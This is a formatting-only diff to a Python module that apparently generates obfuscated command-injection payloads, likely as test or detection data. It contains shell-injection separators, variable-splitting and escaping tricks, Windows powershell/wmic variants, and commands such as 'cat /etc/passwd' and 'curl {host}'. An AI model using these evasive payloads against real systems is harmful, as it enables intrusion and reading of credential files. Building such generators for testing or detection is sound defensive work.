@@ -622,7 +622,11 @@ def _wsplit(cmd: str, rng: random.Random) -> str:
         new = "".join(f"\\{c}" if rng.random() < 0.5 else c for c in head)
     elif style == 5:
         var = rng.choice(["u", "a", "x", "c", "cmd", "p"])
-        return f"{var}={head}{' ' + rest if rest else ''};${var}" if not rest else f"{var}='{cmd}';${var}"
+        return (
+            f"{var}={head}{' ' + rest if rest else ''};${var}"
+            if not rest
+            else f"{var}='{cmd}';${var}"
+        )
     elif style == 6:
         var = rng.choice(["u", "a", "x"])
         return f"{var}={head};${{{var}}}" + (f" {rest}" if rest else "")
@@ -632,7 +636,9 @@ def _wsplit(cmd: str, rng: random.Random) -> str:
 
 
 def _extra(rng: random.Random) -> tuple[str, str]:
-    form = weighted(rng, (("glued", 2.5), ("wide", 3.5), ("wsplit", 1.5), ("urlpath", 1.2), ("winx", 2.0)))
+    form = weighted(
+        rng, (("glued", 2.5), ("wide", 3.5), ("wsplit", 1.5), ("urlpath", 1.2), ("winx", 2.0))
+    )
     if form == "glued":
         base = fill(rng.choice(_GLUE_BASES), rng, _BASE_X)
         cmd = fill(rng.choice(_GLUE_CMDS), rng, _BASE_X)
@@ -643,20 +649,58 @@ def _extra(rng: random.Random) -> tuple[str, str]:
         payload, how = _assemble(rng, cmd, windows=False)
         return payload, f"extra:wide:{how}"
     if form == "wsplit":
-        cmd = fill(rng.choice(("whoami", "id", "uname -a", "cat /etc/passwd", "hostname", "ls -la", "sleep {n}", "getent passwd", "ps aux")), rng, _BASE_X)
+        cmd = fill(
+            rng.choice(
+                (
+                    "whoami",
+                    "id",
+                    "uname -a",
+                    "cat /etc/passwd",
+                    "hostname",
+                    "ls -la",
+                    "sleep {n}",
+                    "getent passwd",
+                    "ps aux",
+                )
+            ),
+            rng,
+            _BASE_X,
+        )
         ob = _wsplit(cmd, rng)
         if rng.random() < 0.25:
             return ob, "extra:wsplit:bare"
         payload, how = _assemble(rng, ob, windows=False)
         return payload, f"extra:wsplit:{how}"
     if form == "urlpath":
-        cmd = fill(rng.choice(("sleep {n}", "id", "getent passwd", "whoami", "curl {host}", "cat /etc/passwd", "nslookup {host}", "uname -a")), rng, _BASE_X)
+        cmd = fill(
+            rng.choice(
+                (
+                    "sleep {n}",
+                    "id",
+                    "getent passwd",
+                    "whoami",
+                    "curl {host}",
+                    "cat /etc/passwd",
+                    "nslookup {host}",
+                    "uname -a",
+                )
+            ),
+            rng,
+            _BASE_X,
+        )
         tmpl = rng.choice(_URL_PATH_TMPL)
         sep = rng.choice(["|", ";", "&&", "||", "%7c", "%3b", "`", "$("])
-        value = fill(tmpl, rng, _BASE_X, {"sep": sep, "cmd": cmd + ("`" if sep == "`" else ")" if sep == "$(" else "")})
+        value = fill(
+            tmpl,
+            rng,
+            _BASE_X,
+            {"sep": sep, "cmd": cmd + ("`" if sep == "`" else ")" if sep == "$(" else "")},
+        )
         return value, "extra:urlpath"
     cmd = fill(rng.choice(_WIN_EXTRA), rng, _BASE_X)
-    if rng.random() < 0.3 and any(t in cmd.lower() for t in ("for /f", "%comspec%", "powershell", "cmd", "wmic")):
+    if rng.random() < 0.3 and any(
+        t in cmd.lower() for t in ("for /f", "%comspec%", "powershell", "cmd", "wmic")
+    ):
         return cmd, "extra:winx:bare"
     payload, how = _assemble(rng, cmd, windows=True)
     return payload, f"extra:winx:{how}"
